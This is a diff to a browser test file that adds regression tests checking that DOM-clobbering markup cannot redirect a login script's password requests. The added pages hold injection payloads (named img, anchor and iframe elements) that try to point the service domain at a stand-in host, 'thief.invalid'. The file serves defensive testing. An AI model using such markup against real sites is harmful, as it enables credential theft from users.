@@ -68,6 +68,8 @@ const clobbering = [
   ],
 ];
 
+/** Somebody who may write markup into a page, but no script, would like passwords to be sent here. */
+const thief = 'http://thief.invalid';
 const tag = (kind: string) => `<script ${kind} src="SERVICE/ms.js" data-ms-app="app_demo"></script>`;
 const pages: Record<string, { head?: string; body: string }> = {
   twice: { head: tag('') + tag(''), body: content },
@@ -83,6 +85,24 @@ const pages: Record<string, { head?: string; body: string }> = {
             `<a id="${name}" name="${name}"></a><form id="${name}" name="${name}"><input name="${name}"></form>`,
         )
         .join('') + content,
+  },
+  ...Object.fromEntries(
+    ['defer', 'async', 'type="module"'].map((kind) => [
+      `stolen, ${kind}`,
+      // Markup that a sanitizer lets pass: no script, only names.
+      {
+        head: '',
+        body: `<img name="currentScript" data-ms-app="app_demo" data-ms-domain="${thief}" src="${thief}/x.js" alt="">
+          <div data-ms-app="app_demo" data-ms-domain="${thief}"></div>
+          <a id="memberstackConfig"></a><a id="memberstackConfig" name="domain" href="${thief}"></a>
+          <a id="$ms"></a><a id="$ms" name="version" href="${thief}"></a>
+          ${content}${tag(kind)}`,
+      },
+    ]),
+  ),
+  framed: {
+    head: tag('defer'),
+    body: `<iframe name="memberstackConfig" srcdoc="<a id=domain href=${thief}></a>"></iframe><iframe name="memberstackTranslations" src="data:text/html,x"></iframe>${content}`,
   },
 };
 
@@ -113,12 +133,13 @@ afterAll(async () => {
 });
 afterEach(() => page?.context().close());
 
-async function open(name: string): Promise<string[]> {
+async function open(name: string, asked: string[] = []): Promise<string[]> {
   page = await (await browser.newContext()).newPage();
   errors = [];
   page.on('pageerror', (error) => errors.push(error));
   const posts: string[] = [];
   page.on('request', (request) => {
+    asked.push(request.url());
     if (request.method() === 'POST') posts.push(new URL(request.url()).pathname);
   });
   await page.goto(`${origin}/${encodeURIComponent(name)}`);
@@ -156,6 +177,16 @@ describe('the script', () => {
     expect(clobbering.length).toBeGreaterThanOrEqual(60);
     await mainJob(await open('clobbered'));
   });
+
+  it.each(Object.keys(pages).filter((name) => /stolen|framed/.test(name)))(
+    'R91 %s: names in the markup of a page do not move the service that passwords are sent to',
+    async (name) => {
+      const asked: string[] = [];
+      const posts = await open(name, asked);
+      await mainJob(posts);
+      expect(asked.filter((url) => url.startsWith(thief) && !url.endsWith('/x.js'))).toEqual([]);
+    },
+  );
 
   it('R91 leaves one enumerable global, and none after destroy()', async () => {
     page = await (await browser.newContext()).newPage();
